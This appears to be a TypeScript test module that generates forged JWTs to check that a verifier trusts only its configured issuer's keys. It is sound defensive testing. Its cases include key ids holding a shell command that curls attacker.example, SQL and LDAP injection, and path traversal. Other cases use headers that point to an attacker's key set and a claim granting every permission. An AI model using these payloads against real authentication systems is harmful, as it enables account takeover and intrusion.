/** Who says which key verifies a token: the configured issuer, whatever the token points at or brings along. */
import { createPublicKey } from "node:crypto"
import { type Attack, bearer, type Family } from "./attack.ts"
import {
  type Claims,
  encode,
  forged,
  hmac,
  type Material,
  minted,
  partsOf,
  rsa,
  stranger,
  strangerJwk,
} from "./material.ts"

export const keys: Family = (material) => [
  ...keyIds(material),
  ...keysBroughtAlong(material),
  ...keysOfOthers(material),
  ...rightKeyUnnamed(material),
]

/** Key ids that mean something to a careless look-up: a file, a query, an address, a property that every object has. */
function keyIds({ kid, claims, token, trap }: Material): readonly Attack[] {
  const named = (id: unknown) => forged({ kid: id, alg: "RS256" }, claims, rsa(stranger.rsa))
  const { payload, signature } = partsOf(token)
  const kept = (id: unknown) => `${encode({ kid: id, alg: "RS256" })}.${payload}.${signature}`
  return [
    bearer("no key id", named(undefined)),
    bearer("an empty key id", named("")),
    bearer("a key id that is null", named(null)),
    bearer("a key id that is a number", named(0)),
    bearer("the right key id in a list", kept([kid])),
    bearer("the right key id in an object", kept({ kid })),
    bearer("the right key id and a blank", kept(`${kid} `)),
    bearer("the right key id and a NUL", kept(`${kid}\0`)),
    bearer(
      "the right key id in another case",
      kept(kid === kid.toUpperCase() ? kid.toLowerCase() : kid.toUpperCase()),
    ),
    bearer("a key id that nobody published", named("nobody")),
    bearer("a key id that leads up to a file", named("../../../../../../dev/null")),
    bearer(
      "HS256 with an empty secret, which the key id says is a file",
      forged({ kid: "/dev/null", alg: "HS256" }, claims, hmac("")),
    ),
    bearer("a key id that is SQL", named("x' UNION SELECT 'key' --")),
    bearer("a key id that is a shell's", named("$(curl attacker.example)|id;`id`")),
    bearer("a key id that is an LDAP filter", named("*)(uid=*")),
    bearer("a key id that is the attackers' address", named(trap)),
    ...["__proto__", "constructor", "toString", "hasOwnProperty"].map((name) =>
      bearer(`a key id that every object has: ${name}`, named(name)),
    ),
    bearer("a key id of 4,000 characters", named("k".repeat(4000))),
  ]
}

/** A token that says where its key is, or has it in its luggage. */
function keysBroughtAlong({ kid, claims, trap }: Material): readonly Attack[] {
  const jwk = strangerJwk(kid)
  const der = createPublicKey(stranger.rsa).export({ type: "spki", format: "der" }).toString("base64")
  const bringing = (header: Claims) => forged({ kid, alg: "RS256", ...header }, claims, rsa(stranger.rsa))
  return [
    bearer("a header that leads to the attackers' key set (jku)", bringing({ jku: trap })),
    bearer("the same with a key id that only that set has", bringing({ jku: trap, kid: "stranger" })),
    bearer(
      "a jku whose host only begins like the issuer's",
      bringing({ jku: trap.replace("//", "//cognito-idp@") }),
    ),
    bearer("a header that leads to the attackers' certificate (x5u)", bringing({ x5u: trap })),
    bearer("a certificate of the attackers' own (x5c)", bringing({ x5c: [der] })),
    bearer(
      "a thumbprint of the attackers' certificate (x5t)",
      bringing({ x5t: "c3RyYW5nZXI", "x5t#S256": "c3RyYW5nZXI" }),
    ),
    bearer("the attackers' key under the right key id (jwk)", bringing({ jwk })),
    bearer(
      "the attackers' key under its own id (jwk)",
      bringing({ jwk: strangerJwk("stranger"), kid: "stranger" }),
    ),
    bearer("the attackers' key and no key id (jwk)", bringing({ jwk, kid: undefined })),
    bearer(
      "a key of theirs in every field at once",
      bringing({ jwk, jku: trap, x5u: trap, x5c: [der], iss: trap }),
    ),
    bearer(
      "claims that lead to the attackers' key set",
      forged({ kid, alg: "RS256" }, { ...claims, iss: trap, jku: trap, jwks_uri: trap }, rsa(stranger.rsa)),
    ),
  ]
}

function keysOfOthers({ kid, claims, token, issuer }: Material): readonly Attack[] {
  const by = (header: Claims, payload: Claims, key = stranger.rsa) =>
    forged({ kid, alg: "RS256", ...header }, payload, rsa(key))
  const otherPool = issuer.replace(/.$/, "2")
  return [
    bearer("another key under the right key id", by({}, claims)),
    bearer("a key of 1,024 bits under the right key id", by({}, claims, stranger.smallRsa)),
    bearer(
      "another key under the right id, and everything granted",
      by({}, { ...claims, "custom:permissions": "*:/**" }),
    ),
    bearer("a token of another pool, whole", by({ kid: "other-pool" }, { ...claims, iss: otherPool })),
    bearer("a token of another pool under this pool's key id", by({}, { ...claims, iss: otherPool })),
    bearer(
      "a token that was signed again by another key",
      by({}, JSON.parse(textOf(partsOf(token).payload))),
    ),
  ]
}

function textOf(part: string): string {
  return Buffer.from(part, "base64url").toString()
}

/** The pool's own signature is no reason to try its key: it is the key that is named, or none. */
function rightKeyUnnamed(material: Material): readonly Attack[] {
  const named = (kid: unknown) => minted(material, {}, { kid })
  return [
    bearer("a good signature under a key id that nobody published", named("nobody")),
    bearer("a good signature under no key id", named(undefined)),
    bearer("a good signature under an empty key id", named("")),
    bearer("a good signature under the right key id and a blank", named(`${material.kid} `)),
    bearer("a good signature under a key id that every object has", named("__proto__")),
  ]
}
